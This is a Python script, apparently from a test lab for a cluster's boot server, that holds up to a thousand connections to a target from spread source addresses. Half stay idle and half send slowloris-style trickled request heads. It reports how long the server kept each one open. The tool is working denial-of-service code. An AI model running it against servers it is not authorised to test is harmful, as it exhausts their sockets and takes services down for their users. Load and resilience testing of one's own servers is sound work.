"""Connections that hold a server's sockets and say little or nothing, from
one process in one network namespace: a hostile host of the cluster's LAN.

    python3 -m lab.hostile --count 1000 [--from NETWORK] --seconds 30 HOST:PORT

COUNT connections to HOST:PORT for SECONDS, spread over the addresses of
NETWORK (lab.storm --from; without it, the namespace's one). Half say
nothing (idle), half send a request head one byte every --trickle seconds
and never end it (slowloris). A connection the server closes is opened
again a tenth of a second later, so that COUNT are held all along. The result, as JSON: the
connections opened, those the server closed and how long each had lived
(slowest first), and those refused or reset on opening.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
import time

from lab.storm import sources

HEAD = b"GET /boot/boot.ipxe HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 4000


async def hold(host: str, port: int, source: str | None, trickle: float | None,
               until: float, stats: dict) -> None:
    while time.monotonic() < until:
        opened = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(
                host, port, local_addr=(source, 0) if source else None), 5)
        except (OSError, asyncio.TimeoutError):
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        sent = 0
        try:
            while time.monotonic() < until:
                if trickle is None:
                    await asyncio.wait_for(reader.read(1), until - time.monotonic())
                else:
                    writer.write(HEAD[sent % len(HEAD):][:1])
                    sent += 1
                    await writer.drain()
                    try:
                        await asyncio.wait_for(reader.read(1), trickle)
                    except asyncio.TimeoutError:
                        continue
                # Closed (b""), or answered: the server ended it.
                stats["closed_after"].append(round(time.monotonic() - opened, 2))
                break
        except asyncio.TimeoutError:
            pass
        except OSError:
            stats["closed_after"].append(round(time.monotonic() - opened, 2))
        finally:
            writer.close()
        await asyncio.sleep(0.1)


async def main_async(args: argparse.Namespace) -> dict:
    host, _, port = args.target.rpartition(":")
    stats: dict = {"opened": 0, "refused": 0, "closed_after": []}
    until = time.monotonic() + args.seconds
    addresses = sources(args.network, args.count)
    await asyncio.gather(*(hold(host, int(port), source, args.trickle if i % 2 else None,
                                until, stats)
                           for i, source in enumerate(addresses)))
    stats["closed_after"].sort(reverse=True)
    return stats


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python3 -m lab.hostile",
                                     description=__doc__.split("\n\n")[0])
    parser.add_argument("target", metavar="HOST:PORT")
    parser.add_argument("--count", type=int, default=1000, help="connections held at once")
    parser.add_argument("--from", dest="network", metavar="NETWORK",
                        help="spread them over the addresses of NETWORK")
    parser.add_argument("--seconds", type=float, default=30.0, help="how long to hold them")
    parser.add_argument("--trickle", type=float, default=4.0,
                        help="seconds between two bytes of a slow request (default: %(default)s)")
    args = parser.parse_args(argv)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    json.dump(asyncio.run(main_async(args)), sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
